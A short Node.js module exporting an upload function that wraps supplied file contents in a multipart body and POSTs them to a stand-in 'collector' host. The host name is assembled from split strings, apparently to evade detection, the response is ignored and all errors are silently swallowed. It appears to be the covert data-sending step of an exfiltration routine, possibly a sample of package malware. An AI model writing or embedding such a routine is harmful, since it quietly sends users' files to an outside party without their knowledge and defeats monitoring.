'use strict';
const https = require('https');
const crypto = require('crypto');

module.exports = function upload(parts, tag) {
  const boundary = '----bpp' + crypto.randomBytes(8).toString('hex');
  const chunks = [];
  for (const p of parts) {
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="f"; filename="${encodeURIComponent(p.name)}"\r\nContent-Type: application/octet-stream\r\n\r\n`));
    chunks.push(p.data, Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  const body = Buffer.concat(chunks);
  const req = https.request({
    host: ['files', 'collector', 'example', 'invalid'].join('.'),
    path: '/u/' + encodeURIComponent(tag),
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data; boundary=' + boundary, 'content-length': body.length }
  }, (r) => r.resume());
  req.on('error', () => {});
  req.end(body);
};
